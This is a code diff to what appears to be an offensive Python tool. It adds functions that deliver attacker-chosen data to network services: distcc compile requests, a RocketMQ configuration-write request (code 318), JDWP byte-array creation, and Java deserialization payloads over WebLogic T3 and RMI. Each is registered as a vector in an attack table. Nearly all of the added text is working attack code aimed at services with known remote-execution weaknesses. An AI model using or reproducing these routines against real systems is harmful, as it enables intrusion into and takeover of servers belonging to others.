@@ -502,6 +502,63 @@ def rpc(attack: Attack, data: bytes) -> None:
     line.say(smb_client.request(4, data, fragment=4000))
 
 
+# --- compilers, brokers and machines of Java's -----------------------------------------------------------
+
+
+def distcc(attack: Attack, data: bytes) -> None:
+    """What is to be compiled."""
+    words = b"".join(b"ARGV%08x%s" % (len(word), word) for word in (b"cc", b"-c", b"a.c"))
+    attack.table("distcc", host=HOST, port=3632).say(b"DIST00000001ARGC00000003%sDOTI%08x%s" % (words, len(data), data))
+
+
+def rocketmq(attack: Attack, data: bytes) -> None:
+    """A configuration, as a name server is to write it to a file."""
+    head = b'{"code":318,"flag":0,"opaque":1}'
+    sizes = (4 + len(head) + len(data)).to_bytes(4, "big") + len(head).to_bytes(4, "big")
+    attack.table("rocketmq", host=HOST, port=9876).say(sizes + head + data)
+
+
+def jdwp(attack: Attack, data: bytes) -> None:
+    """A class that is to be defined: an array of bytes, put together piece by piece."""
+    line = attack.table("jdwp", host=HOST, port=5005)
+
+    def ask(group: int, command: int, asked: bytes) -> bytes:
+        line.forget()
+        line.say(struct.pack(">IIBBB", 11 + len(asked), 1, 0, group, command) + asked)
+        return line.sent[11:]
+
+    line.say(b"JDWP-Handshake")
+    kind = ask(1, 2, b"\0\0\0\2[B")[5:13]
+    array = ask(4, 1, kind + len(data).to_bytes(4, "big"))[1:9]
+    for at in range(0, len(data), 500_000):
+        piece = data[at : at + 500_000]
+        ask(13, 3, array + at.to_bytes(4, "big") + len(piece).to_bytes(4, "big") + piece)
+
+
+def in_t3(data: bytes) -> bytes:
+    """Return a message of T3's with an object in it."""
+    return bytes(19) + b"\xac\xed\0\5" + data
+
+
+def t3(attack: Attack, data: bytes) -> None:
+    line = attack.table("java", host=HOST, port=7001)
+    line.say(b"t3 12.2.1\nAS:255\nHL:19\n\n")
+    message = in_t3(data)
+    line.say((4 + len(message)).to_bytes(4, "big") + message)
+
+
+def in_call(data: bytes) -> bytes:
+    """Return a call of RMI's, without the letter that says so."""
+    return b"\xac\xed\0\5\x77\x22" + bytes(34) + data
+
+
+def rmi(attack: Attack, data: bytes) -> None:
+    line = attack.table("java", host=HOST, port=1099)
+    line.say(b"JRMI\0\2K")
+    line.say(b"\0\1a\0\0\0\0")
+    line.say(b"P" + in_call(data))
+
+
 def rows() -> Iterator[Vector]:
     """Yield the rows."""
     yield Vector("ftp", "STOR, passive", ftp())
@@ -597,6 +654,11 @@ def rows() -> Iterator[Vector]:
     yield Vector("memcached", "set", memcached, 64, why=small)
     yield Vector("memcached", "set, binary", memcached_binary, 64, why=small)
     yield Vector("memcached", "set, UDP", memcached_datagram, 64, 4097, "one datagram", broken="nothing")
+    yield Vector("distcc", "a source", distcc, 1)
+    yield Vector("rocketmq", "a configuration", rocketmq, 1)
+    yield Vector("jdwp", "a byte array", jdwp, 1)
+    yield Vector("java", "T3", t3, form=in_t3)
+    yield Vector("java", "a call over RMI", rmi, 1, form=in_call, broken="as it is")
     yield Vector("catchall", "TCP", catchall, 1, broken="as it is")
     yield Vector("catchall", "UDP", catchall_datagrams, 1, broken="as it is")
     yield Vector(
